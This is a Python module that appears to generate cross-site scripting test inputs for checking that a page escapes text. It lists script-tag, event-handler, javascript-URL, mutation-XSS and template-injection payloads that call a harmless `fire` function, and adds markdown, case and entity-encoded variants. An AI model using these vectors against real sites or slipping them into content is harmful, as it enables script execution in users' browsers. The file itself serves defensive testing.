"""Texts that would run a script in a page that does not escape them; the script calls `fire`."""

from __future__ import annotations

_BARE = (
    "<script>fire(1)</script>",
    "<img src=x onerror=fire(1)>",
    "<svg onload=fire(1)>",
    "<svg><script>fire(1)</script></svg>",
    "<svg><animate onbegin=fire(1) attributeName=x dur=1s>",
    "<body onload=fire(1)>",
    "<iframe srcdoc='<script>parent.fire(1)</script>'></iframe>",
    "<iframe src=javascript:parent.fire(1)></iframe>",
    "<details open ontoggle=fire(1)><summary>x</summary></details>",
    "<input autofocus onfocus=fire(1)>",
    "<select autofocus onfocus=fire(1)></select>",
    "<video><source onerror=fire(1)></video>",
    "<audio src=x onerror=fire(1)>",
    "<object data=javascript:fire(1)></object>",
    "<embed src=javascript:fire(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=fire(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=fire(1)>'>",
    "<template><script>fire(1)</script></template>",
    "<a href=javascript:fire(1) autofocus onfocus=fire(1)>x</a>",
    "<form action=javascript:fire(1)><button autofocus onfocus=fire(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:fire(1)'>",
    "<base href=javascript:fire(1)//>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=fire(1)>x</p>",
    "<marquee onstart=fire(1)>x</marquee>",
    "</textarea><script>fire(1)</script>",
    "</title><script>fire(1)</script>",
    "</script><script>fire(1)</script>",
    "--><script>fire(1)</script>",
    "${fire(1)}",
    "{{constructor.constructor('fire(1)')()}}",
    "`-fire(1)-`",
    "javascript:fire(1)",
)


def _entities(text: str) -> str:
    return "".join(f"&#{ord(character)};" for character in text)


_WRAPPINGS = (
    "{}",
    "word {} word",
    "'\"><b x='\">{}",
    "`{}`",
    "[{0}]({0})",
    "![{0}]({0})",
    '[x](https://a.example "{}")',
    "<{}>",
    "| a |\n|---|\n| {} |",
    "1. step\n\n   {}",
)


def payloads() -> list[str]:
    """Return more than 300 texts: each script in each wrapping, in capitals, and as character references."""
    wrapped = [wrapping.format(bare) for bare in _BARE for wrapping in _WRAPPINGS]
    return [*wrapped, *(bare.swapcase().replace("FIRE", "fire") for bare in _BARE), *map(_entities, _BARE)]
